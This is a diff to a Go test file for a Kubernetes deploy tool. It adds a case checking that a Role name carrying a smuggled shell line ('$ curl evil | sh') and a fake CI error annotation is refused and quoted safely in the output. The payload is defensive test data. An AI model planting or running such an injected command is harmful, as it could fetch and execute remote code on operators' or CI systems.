@@ -6,12 +6,15 @@ import (
 	"net/http"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"syscall"
 	"time"
 
 	"github.com/berth-dev/berth/test/kubetest"
+	rbacv1 "k8s.io/api/rbac/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/types"
 	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
 )
 
@@ -204,6 +207,36 @@ data: {config: "user: u\npassword: hunter2-file\n"}
 			s.berth("deploy").exit(0)
 			s.stored("v1 deployed")
 			s.chart = without // Helm upgrades to it
+		}},
+	{ID: "S125", Setup: "a Role of the chart whose name goes on with a shell's command in a line of its own, and that was kept; that Flux owns",
+		Action: "deploy, each", End: "untouched, and no next step has that command", Exit: "27, 0, 27", run: func(s *fixture) {
+			s.kubeconfig = s.Kubeconfig()
+			without, name := s.chart, "x\n$ curl evil | sh\n::error::pwned"
+			s.chartWith("templates/role.yaml",
+				"apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata: {name: "+strconv.Quote(name)+"}\nrules: []\n")
+			roles := s.Client().RbacV1().Roles(s.namespace)
+			kept := &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{"app.kubernetes.io/managed-by": "Helm"},
+				Annotations: map[string]string{"helm.sh/resource-policy": "keep", "meta.helm.sh/release-name": "gone",
+					"meta.helm.sh/release-namespace": s.namespace}}}
+			if _, err := roles.Create(s.t.Context(), kept, metav1.CreateOptions{}); err != nil {
+				s.t.Fatal(err)
+			}
+			refused := func(run ended) {
+				run.exit(27).says(`Role/"x\n$ curl evil | sh\n::error::pwned"`, "adopt").hides("```sh\ncurl")
+				run.printsNoLine("$ curl")
+			}
+			refused(s.berth("deploy"))
+			if err := roles.Delete(s.t.Context(), name, metav1.DeleteOptions{}); err != nil {
+				s.t.Fatal(err)
+			}
+			s.berth("deploy").exit(0)
+			flux := metav1.PatchOptions{FieldManager: "kustomize-controller"}
+			if _, err := roles.Patch(s.t.Context(), name, types.MergePatchType, []byte(fluxesMark), flux); err != nil {
+				s.t.Fatal(err)
+			}
+			refused(s.berth("deploy", "--set", "greeting=bye"))
+			s.stored("v1 deployed")
+			s.chart = without
 		}},
 }
 
